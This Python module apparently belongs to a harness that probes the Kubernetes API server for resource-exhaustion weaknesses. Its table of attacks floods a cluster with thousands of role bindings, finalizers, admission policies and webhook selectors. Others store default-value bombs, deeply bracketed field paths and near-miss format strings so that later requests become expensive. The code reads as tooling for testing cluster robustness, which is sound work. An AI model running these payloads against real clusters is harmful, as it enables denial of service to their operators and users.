"""Attacks by stored state: objects that make later requests dear."""

from typing import Any

from hack.attacks.client import Answer, Door
from hack.attacks.costly.row import (
    ADMISSION,
    ANYTHING,
    APPS,
    BOMBS,
    CORE,
    DEFAULT,
    LOW,
    RBAC,
    Attack,
    Row,
    after,
    binding,
    bomb,
    bombing,
    pod,
    post,
    posting,
    reading,
    role,
    rules,
)

CONFIG_MAPS = f"{DEFAULT}/configmaps"
TEXT = {"type": "string"}
NEAR_MISSES = {
    "duration": "ms" * 100 + "!",
    "email": "a@" + "a." * 2_000 + "!",
    "hostname": "a-" * 2_000 + ".",
    "uri": "http://" + "a:" * 2_000 + "%",
    "ipv4": "1." * 2_000,
    "ipv6": "1:" * 2_000,
    "cidr": "1." * 2_000 + "/",
    "mac": "0:" * 2_000,
    "uuid": "a-" * 2_000,
    "isbn": "1-" * 2_000 + "X!",
    "creditcard": "4-" * 2_000 + "!",
    "ssn": "1-" * 2_000,
    "hexcolor": "#" + "a" * 4_000 + "!",
    "rgbcolor": "rgb(" + "1," * 2_000,
    "byte": "a=" * 2_000,
    "date": "1-" * 2_000,
    "datetime": "1-1T:" * 800 + "!",
    "password": "a" * 4_000,
    "bsonobjectid": "a" * 4_000 + "!",
}
"""Formats of custom resources with a text that each nearly has."""
EXPRESSIONS = {
    "isQuantity": "0" * 4_000 + "!",
    "isURL": "http://" + "a:" * 2_000,
    "isIP": "1:" * 2_000,
    "isCIDR": "1:" * 2_000 + "/",
    "isSemver": "1." * 2_000,
}
"""Functions of CEL with a text that each nearly accepts."""


def _bound(count: int, each: int, namespaced: bool = False) -> Attack:
    """Bind a user to one role many times."""

    def attack(door: Door) -> list[Answer]:
        place = f"{RBAC}/namespaces/default/rolebindings" if namespaced else f"{RBAC}/clusterrolebindings"
        found = post(door, f"{RBAC}/clusterroles", role("big", rules(each)))
        return found + post(door, place, *(binding(f"b{n}", "big") for n in range(count)))

    return attack


def _ranges(door: Door) -> list[Answer]:
    limit = {"type": "Container", "max": {f"example.com/r{n}": "5" for n in range(20)}}
    bodies = [{"metadata": {"name": f"l{n}"}, "spec": {"limits": [limit]}} for n in range(150)]
    found = post(door, f"{DEFAULT}/limitranges", *bodies)
    many = pod("many", containers=[{"name": f"c{n}", "image": "i"} for n in range(100)])
    return found + post(door, f"{DEFAULT}/pods", many)


def _quotas(door: Door) -> list[Answer]:
    hard = {f"count/r{n}.example.com": "5" for n in range(100)} | {"configmaps": "100"}
    bodies = [{"metadata": {"name": f"q{n}"}, "spec": {"hard": hard}} for n in range(150)]
    found = post(door, f"{DEFAULT}/resourcequotas", *bodies)
    return found + post(door, CONFIG_MAPS, *({"metadata": {"generateName": "q-"}} for _ in range(20)))


def _policies(door: Door) -> list[Answer]:
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["configmaps"]}
    spec = {
        "matchConstraints": {"resourceRules": [rule]},
        "validations": [{"expression": f"object.metadata.name != 'n{n}'"} for n in range(20)],
    }
    names = [f"p{n}" for n in range(60)]
    found = post(
        door,
        f"{ADMISSION}/validatingadmissionpolicies",
        *({"metadata": {"name": n}, "spec": spec} for n in names),
    )
    found += post(
        door, f"{ADMISSION}/validatingadmissionpolicybindings",
        *({"metadata": {"name": n}, "spec": {"policyName": n, "validationActions": ["Deny"]}} for n in names),
    )  # fmt: skip
    return found + post(door, CONFIG_MAPS, *({"metadata": {"generateName": "p-"}} for _ in range(20)))


def _parameters(door: Door) -> list[Answer]:
    rule = {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["*"], "resources": ["secrets"]}
    spec = {
        "paramKind": {"apiVersion": "v1", "kind": "ConfigMap"},
        "matchConstraints": {"resourceRules": [rule]},
        "validations": [{"expression": "params.data.all(k, k != object.metadata.name)"}],
    }
    bound = {
        "policyName": "p", "validationActions": ["Deny"],
        "paramRef": {"selector": {}, "namespace": "default", "parameterNotFoundAction": "Deny"},
    }  # fmt: skip
    found = post(
        door,
        CONFIG_MAPS,
        *({"metadata": {"name": f"p{n}"}, "data": {f"k{k}": "v" for k in range(50)}} for n in range(300)),
    )
    found += post(door, f"{ADMISSION}/validatingadmissionpolicies", {"metadata": {"name": "p"}, "spec": spec})
    found += post(
        door, f"{ADMISSION}/validatingadmissionpolicybindings", {"metadata": {"name": "p"}, "spec": bound}
    )
    return found + post(
        door, f"{DEFAULT}/secrets", *({"metadata": {"generateName": "s-"}} for _ in range(10))
    )


def _hook_selectors(door: Door) -> list[Answer]:
    values = [f"v{n}" for n in range(5_000)]
    hook = {
        "name": "a.b.c", "admissionReviewVersions": ["v1"], "sideEffects": "None", "failurePolicy": "Ignore", "timeoutSeconds": 1,
        "clientConfig": {"url": "https://127.0.0.1:1/"},
        "objectSelector": {"matchExpressions": [{"key": f"k{n}", "operator": "NotIn", "values": values} for n in range(10)]},
        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"]}],
    }  # fmt: skip
    body = {"metadata": {"name": "a"}, "webhooks": [{**hook, "name": f"a{n}.b.c"} for n in range(3)]}
    found = post(door, f"{ADMISSION}/validatingwebhookconfigurations", body)
    labels = {f"k{n}": "w" for n in range(10)}
    return found + post(
        door, CONFIG_MAPS, *({"metadata": {"generateName": "h-", "labels": labels}} for _ in range(5))
    )


def _hook_conditions(door: Door) -> list[Answer]:
    conditions = [
        {"name": f"c{n}", "expression": "object.data.all(a, object.data.all(b, a + b != ''))"}
        for n in range(60)
    ]
    hook = {
        "name": "a.b.c", "admissionReviewVersions": ["v1"], "sideEffects": "None", "failurePolicy": "Ignore", "timeoutSeconds": 1,
        "clientConfig": {"url": "https://127.0.0.1:1/"}, "matchConditions": conditions,
        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["configmaps"]}],
    }  # fmt: skip
    found = post(
        door, f"{ADMISSION}/validatingwebhookconfigurations", {"metadata": {"name": "a"}, "webhooks": [hook]}
    )
    return found + post(
        door, CONFIG_MAPS, {"metadata": {"name": "c"}, "data": {f"k{n}": "v" for n in range(400)}}
    )


def _finalizers(door: Door) -> list[Answer]:
    body = {"metadata": {"name": "f", "finalizers": [f"a.b/f{n}" for n in range(10_000)]}}
    found = post(door, CONFIG_MAPS, body)
    found.append(door.ask("DELETE", f"{CONFIG_MAPS}/f"))
    return [
        *found,
        door.ask(
            "PATCH",
            f"{CONFIG_MAPS}/f",
            {"metadata": {"finalizers": None}},
            {"Content-Type": "application/merge-patch+json"},
        ),
    ]


def _classes(door: Door) -> list[Answer]:
    classes = [{"metadata": {"name": f"p{n}"}, "value": n} for n in range(1_000)]
    found = post(door, "/apis/scheduling.k8s.io/v1/priorityclasses", *classes)
    return found + post(door, f"{DEFAULT}/pods", *(pod(f"p{n}") for n in range(20)))


def _ports(door: Door) -> list[Answer]:
    def service(number: int) -> dict[str, Any]:
        ports = [{"name": f"p{n}", "port": n + 1} for n in range(10)]
        return {"metadata": {"name": f"s{number}"}, "spec": {"type": "NodePort", "ports": ports}}

    return post(door, f"{DEFAULT}/services", *(service(n) for n in range(320)))


def _api_services(door: Door) -> list[Answer]:
    def api_service(number: int) -> dict[str, Any]:
        group = f"g{number}.example.com"
        spec = {
            "group": group, "version": "v1", "groupPriorityMinimum": 1, "versionPriority": 1, "insecureSkipTLSVerify": True,
            "service": {"namespace": "default", "name": "nowhere"},
        }  # fmt: skip
        return {"metadata": {"name": f"v1.{group}"}, "spec": spec}

    found = post(door, "/apis/apiregistration.k8s.io/v1/apiservices", *(api_service(n) for n in range(200)))
    return [*found, door.ask("GET", "/apis"), door.ask("GET", "/apis/g1.example.com/v1/x")]


def _defaults(width: int, size: int) -> Attack:
    """Store a default that each element of a list gets."""
    element = {"type": "object", "properties": {"t": {"type": "string", "default": "x" * size}}}
    return bombing({"l": {"type": "array", "items": element}}, lambda: bomb(l=[{}] * width))


ROWS = [
    Row("bindings of a large role, at each request of its user", after(_bound(800, 5_000), reading(CONFIG_MAPS, LOW, 20))),
    Row("bindings of a large role in one namespace", after(_bound(800, 5_000, namespaced=True), reading(CONFIG_MAPS, LOW, 20))),
    Row("a role of ten thousand rules", after(_bound(1, 10_000), reading(CONFIG_MAPS, LOW, 20))),
    Row("bindings of roles that do not exist", after(
        lambda door: post(door, f"{RBAC}/clusterrolebindings", *(binding(f"m{n}", f"missing{n}") for n in range(800))),
        reading(CONFIG_MAPS, LOW, 20),
    )),
    Row("a binding of ten thousand subjects", after(
        posting(f"{RBAC}/clusterrolebindings", lambda: {**binding("s", "big"), "subjects": [
            {"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": f"u{n}"} for n in range(10_000)]}),
        reading(CONFIG_MAPS, {"Impersonate-User": "u9999"}, 20),
    )),
    Row("roles that change at each request", lambda door: [
        answer for n in range(50) for answer in (
            door.ask("PUT", f"{RBAC}/clusterroles/r", role("r", rules(500, f"v{n}"))), door.ask("GET", CONFIG_MAPS, None, LOW))
        if n or post(door, f"{RBAC}/clusterroles", role("r", []))]),
    Row("limits of one namespace", _ranges),
    Row("quotas of one namespace", _quotas),
    Row("policies of one kind", _policies),
    Row("parameters of a policy", _parameters),
    Row("selectors of webhooks", _hook_selectors),
    Row("conditions of a webhook", _hook_conditions),
    Row("ten thousand finalizers, removed", _finalizers),
    Row("priority classes by the thousand", _classes),
    Row("all node ports", _ports),
    Row("API services by the hundred", _api_services),
    Row("defaults that multiply", _defaults(3_000, 1_000)),
    Row("defaults within defaults", bombing(
        {"a": {"type": "object", "default": {}, "properties": {f"b{n}": {"type": "object", "default": {}, "properties": {
            f"c{m}": {"type": "object", "default": {}, "properties": {"d": {"type": "string", "default": "x" * 20}}} for m in range(20)}}
            for n in range(20)}}},
        *(bomb(f"a{n}") for n in range(20)),
    )),
    Row("labels of a namespace by the thousand, and selectors of them", after(
        posting(f"{CORE}/namespaces", lambda: {"metadata": {"name": "n", "labels": {f"k{n}": "v" for n in range(3_000)}}}),
        posting(f"{CORE}/namespaces/n/configmaps", {"metadata": {"name": "a"}}),
    )),
    Row("a Pod's path of an annotation", posting(f"{DEFAULT}/pods?dryRun=All", lambda: pod("p", containers=[{
        "name": "c", "image": "i", "env": [{"name": "A", "valueFrom": {"fieldRef": {
            "fieldPath": "metadata.annotations" + "['" * 60_000}}}]}]))),
    Row("a workload's path of an annotation", posting(f"{APPS}/replicasets?dryRun=All", lambda: {
        "metadata": {"name": "p"}, "spec": {"selector": {"matchLabels": {"app": "a"}}, "template": pod("p", volumes=[{
            "name": "v", "downwardAPI": {"items": [{"path": "a", "fieldRef": {
                "fieldPath": "metadata.labels" + "['" * 30_000}}]}}])}})),
    Row("quantities that are long", posting(f"{DEFAULT}/pods?dryRun=All", lambda: pod("q", containers=[
        {"name": f"c{n}", "image": "i", "resources": {"limits": {"cpu": "1" * 200 + "!"}}} for n in range(100)]))),
    *(Row(f"a text that nearly has format {name}", bombing(
        {"s": {**TEXT, "format": name}}, *(bomb(f"a{n}", s=text) for n in range(3)))) for name, text in NEAR_MISSES.items()),
    *(Row(f"a text that nearly satisfies {name}", bombing(
        {"s": {**TEXT, "maxLength": 4_096, "x-kubernetes-validations": [{"rule": f"!{name}(self)"}]}}, bomb(s=text)))
      for name, text in EXPRESSIONS.items()),
    Row("objects that are patched while they are wide", after(
        bombing({"spec": ANYTHING}, lambda: bomb(spec={f"k{n}": {"a": n} for n in range(20_000)})),
        lambda door: [door.ask("PATCH", f"{BOMBS}/a", {"spec": {f"k{n}": {"a": 0}}}, {"Content-Type": "application/merge-patch+json"})
                      for n in range(5)],
    )),
    Row("objects that are applied while they are wide", after(
        bombing({"spec": ANYTHING}, lambda: bomb(spec={f"k{n}": {"a": n} for n in range(20_000)})),
        lambda door: [door.ask("PATCH", f"{BOMBS}/a?fieldManager=m{n}&force=true", bomb(spec={f"k{n}": {"a": 0}}),
                               {"Content-Type": "application/apply-patch+yaml"}) for n in range(5)],
    )),
]  # fmt: skip
